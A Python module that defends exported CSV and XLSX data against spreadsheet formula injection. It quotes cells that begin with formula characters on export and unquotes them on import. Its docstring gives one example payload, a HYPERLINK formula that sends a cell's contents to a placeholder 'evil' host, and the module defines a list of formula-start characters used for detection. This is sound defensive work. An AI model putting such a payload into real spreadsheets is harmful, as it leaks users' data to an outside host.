"""Text a spreadsheet would take for a formula: quoted in every CSV the service writes, unquoted when a
CSV or XLSX is imported, so that an export goes back as it came out.

A CSV cell beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to Excel
and LibreOffice (``=HYPERLINK("http://evil/?"&A1, "click")`` in a citizen's case or a failed login's
user name). As OWASP advises, such text is written with a single quote before it (``'=HYPERLINK…``),
which the spreadsheet shows as text; numbers are never quoted (``-3`` stays a number). Text that
already begins with quotes before one of those characters gets one more, so that reading back, which
takes one quote away from such text, gives every text exactly as it was.
"""

from __future__ import annotations

from typing import Any

import pandas as pd

__all__ = ["FORMULA_STARTS", "quoted_formula", "quoted_table", "unquoted_table"]

#: The first characters that make a spreadsheet read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_QUOTED = r"^'+[=+\-@\t\r]"  # text that reads back with one quote fewer


def quoted_formula(value: Any) -> Any:
    """``value`` with a quote before it if it is text a spreadsheet would take for a formula (or such
    text already quoted); anything else as it is.

    >>> quoted_formula("=1+1"), quoted_formula("'=1+1"), quoted_formula(-3), quoted_formula("解放路")
    ("'=1+1", "''=1+1", -3, '解放路')
    """
    if isinstance(value, str) and value.lstrip("'").startswith(FORMULA_STARTS):
        return "'" + value
    return value


def _text_matching(column: pd.Series, pattern: str) -> pd.Series:
    """Whether each cell is text matching ``pattern`` (numbers, blanks and other objects: False)."""
    is_text = column.map(lambda v: isinstance(v, str)).astype(bool)
    out = pd.Series(False, index=column.index)
    if is_text.any():
        out[is_text] = column[is_text].astype(str).str.contains(pattern, regex=True).to_numpy()
    return out


def quoted_table(table: pd.DataFrame) -> pd.DataFrame:
    """``table`` as a CSV should hold it: :func:`quoted_formula` on every text cell and header."""
    out = table.copy()
    for col in out.columns:
        if out[col].dtype == object or pd.api.types.is_string_dtype(out[col]):
            hit = _text_matching(out[col], r"^'*[=+\-@\t\r]")
            if hit.any():
                out[col] = out[col].astype(object)
                out.loc[hit, col] = "'" + out.loc[hit, col].astype(str)
    return out.rename(columns={c: quoted_formula(c) for c in out.columns if isinstance(c, str)})


def unquoted_table(table: pd.DataFrame) -> pd.DataFrame:
    """An imported sheet's cells and headers with the quote :func:`quoted_table` put before formula-like
    text taken away (``'=HYPERLINK(…)`` → ``=HYPERLINK(…)``, ``''=x`` → ``'=x``); other cells as they are."""
    out = table.copy()
    for col in out.columns:
        if out[col].dtype == object or pd.api.types.is_string_dtype(out[col]):
            hit = _text_matching(out[col], _QUOTED)
            if hit.any():
                out[col] = out[col].astype(object)
                out.loc[hit, col] = out.loc[hit, col].astype(str).str[1:]
    return out.rename(columns={c: c[1:] for c in out.columns if isinstance(c, str) and _quoted(c)})


def _quoted(text: str) -> bool:
    return text.startswith("'") and text.lstrip("'").startswith(FORMULA_STARTS)
